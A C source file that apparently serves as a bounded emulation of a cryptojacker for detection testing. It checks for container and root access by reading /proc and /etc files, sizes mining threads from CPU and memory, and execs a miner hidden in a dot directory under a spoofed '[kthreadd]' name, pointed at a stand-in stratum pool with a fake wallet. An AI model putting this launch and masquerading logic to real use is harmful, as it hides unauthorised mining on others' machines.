/* kworker-helper: harmless re-enactment of a cryptojacker that looks around before acting. It
 * reads the host's own files with fopen (no uname, no nproc, no id), decides whether it is in
 * a container and root, sizes itself from the CPU and memory, and only then execs the stand-in
 * stratum client against a .test pool with a fake wallet. Bounded: the stand-in submits two
 * shares and exits. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static int file_has(const char *path, const char *needle) {
    char line[1024];
    int found = 0;
    FILE *f = fopen(path, "r");
    if (!f) return 0;
    while (!found && fgets(line, sizeof line, f)) found = strstr(line, needle) != NULL;
    fclose(f);
    return found;
}

static int field(const char *path, const char *key, char *value, size_t size) {
    char line[1024];
    size_t klen = strlen(key);
    FILE *f = fopen(path, "r");
    if (!f) return 0;
    while (fgets(line, sizeof line, f)) {
        if (strncmp(line, key, klen) == 0) {
            char *v = line + klen;
            while (*v == ' ' || *v == '\t' || *v == ':' || *v == '=') v++;
            v[strcspn(v, "\n")] = 0;
            snprintf(value, size, "%s", v);
            fclose(f);
            return 1;
        }
    }
    fclose(f);
    return 0;
}

static int count(const char *path, const char *prefix) {
    char line[1024];
    int n = 0;
    FILE *f = fopen(path, "r");
    if (!f) return 0;
    while (fgets(line, sizeof line, f)) n += strncmp(line, prefix, strlen(prefix)) == 0;
    fclose(f);
    return n;
}

int main(void) {
    char comm[64] = "", uid[64] = "?", cap[64] = "?", mem[64] = "0", model[128] = "?",
         os[128] = "?", kernel[256] = "?";
    int ctr = file_has("/proc/1/cgroup", "docker") || file_has("/proc/1/cgroup", "kubepods") ||
              file_has("/proc/self/mountinfo", " - overlay ") || access("/.dockerenv", F_OK) == 0;
    FILE *f = fopen("/proc/1/comm", "r");
    if (f) {
        if (fgets(comm, sizeof comm, f)) comm[strcspn(comm, "\n")] = 0;
        fclose(f);
    }
    if (strcmp(comm, "systemd") != 0 && strcmp(comm, "init") != 0) ctr = 1;
    field("/proc/self/status", "Uid:", uid, sizeof uid);
    field("/proc/self/status", "CapEff:", cap, sizeof cap);
    field("/proc/meminfo", "MemTotal:", mem, sizeof mem);
    field("/proc/cpuinfo", "model name", model, sizeof model);
    field("/etc/os-release", "PRETTY_NAME", os, sizeof os);
    f = fopen("/proc/version", "r");
    if (f) {
        if (fgets(kernel, sizeof kernel, f)) kernel[strcspn(kernel, "\n")] = 0;
        fclose(f);
    }
    int cpus = count("/proc/cpuinfo", "processor");
    int root = atoi(uid) == 0 && uid[0] == '0';
    long mem_mb = atol(mem) / 1024;
    int threads = cpus > 1 ? cpus - 1 : 1;
    printf("kwh: ctr=%d root=%d cap=%s cpus=%d model=%s mem=%ldM os=%s kernel=%.40s\n", ctr, root,
           cap, cpus, model, mem_mb, os, kernel);
    fflush(stdout);
    if (!ctr || !root) {
        puts("kwh: not a target");
        return 0;
    }
    char pass[64];
    snprintf(pass, sizeof pass, "c%d-m%ld", threads, mem_mb);
    char *argv[] = {"kthreadd", "-o", "stratum+tcp://198.51.100.140:3333", "-u",
                    "49FAKEWALLETyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyy",
                    "-p", pass, "--name", "[kthreadd]", "--shares", "2", NULL};
    execv("/usr/lib/x86_64-linux-gnu/.kwh/kthreadd", argv);
    perror("kwh: exec");
    return 1;
}
